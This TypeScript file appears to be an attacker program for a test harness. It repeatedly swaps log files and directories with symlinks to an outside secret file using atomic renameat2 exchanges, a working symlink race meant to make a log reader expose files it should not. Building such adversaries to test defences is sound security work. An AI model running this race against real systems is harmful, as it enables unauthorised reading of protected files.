/**
 * A program that attacks names in a log directory that it may write to, as its owner would: `link_swapper.ts JSON`, see
 * `SwapperInput`. Each round exchanges a log, or a directory on the way to one, with a link to outside, in one system call, so
 * that at any moment the name is one or the other. It goes on appending lines to its own logs, so that they stay of interest,
 * and prints a `SwapperReport`.
 */

import { dlopen } from "node:ffi";
import { appendFileSync, mkdirSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";

/** What the attacker is given on its command line. */
export interface SwapperInput {
  readonly logs: string;
  /** A directory of the attacker's on the same file system, which is not watched. */
  readonly stage: string;
  /** A directory outside that holds a secret `shadow.log`. */
  readonly outside: string;
  /** Exchanges, over all names. */
  readonly rounds: number;
}

export interface SwapperReport {
  /** Lines of its own, each once. */
  readonly lines: number;
  readonly seconds: number;
}

/** renameat2(2), `<linux/fcntl.h>`. */
const AT_FDCWD = -100;
const RENAME_EXCHANGE = 2;
/** Exchanges of a name for which its log is one file; then it is a new one. */
const ROUNDS_PER_FILE = 20;
/** After so many exchanges the attacker lets the others have the processor for a moment. */
const ROUNDS_PER_PAUSE = 10;
const PAUSE_MS = 1;

const { functions } = dlopen(null, {
  renameat2: { arguments: ["i32", "string", "i32", "string", "u32"], return: "i32" },
});

function exchange(a: string, b: string): void {
  if (functions.renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) !== 0) throw new Error(`${a} was not exchanged`);
}

/** A name that is attacked. */
interface Target {
  readonly name: string;
  /** Where what it is exchanged with lies. */
  readonly other: string;
  /** The log, as seen from the name's own thing, which is at the name or at the other place. */
  readonly log: string;
}

const { logs, stage, outside, rounds } = JSON.parse(process.argv[2] ?? "{}") as SwapperInput;
const secret = join(outside, "shadow.log");
const targets: readonly Target[] = [
  // A log that becomes a link; a directory that becomes one; and one that a link in the logs leads over.
  { name: join(logs, "race.log"), other: join(stage, "file"), log: "" },
  { name: join(logs, "directory"), other: join(stage, "directory"), log: "shadow.log" },
  { name: join(logs, "hop"), other: join(stage, "hop"), log: "shadow.log" },
];
for (const { name, other, log } of targets) {
  if (log !== "") mkdirSync(name);
  writeFileSync(join(name, log), "");
  symlinkSync(log === "" ? secret : outside, other);
}
symlinkSync("hop/shadow.log", join(logs, "chain.log"));
symlinkSync("chain.log", join(logs, "chain_of_chain.log"));

let lines = 0;
const pause = new Int32Array(new SharedArrayBuffer(4));
const begun = performance.now();
for (let n = 0; n < rounds; n += 1) {
  const { name, other, log } = targets[n % targets.length] as Target;
  const turn = Math.floor(n / targets.length);
  // What is at the name before an even turn is the log.
  const own = turn % 2 === 0 ? name : other;
  if (turn % ROUNDS_PER_FILE === 1) rmSync(join(own, log));
  appendFileSync(join(own, log), `mine ${n}\n`);
  lines += 1;
  exchange(name, other);
  if (n % ROUNDS_PER_PAUSE === 0) Atomics.wait(pause, 0, 0, PAUSE_MS);
}
const report: SwapperReport = { lines, seconds: (performance.now() - begun) / 1000 };
process.stdout.write(JSON.stringify(report));
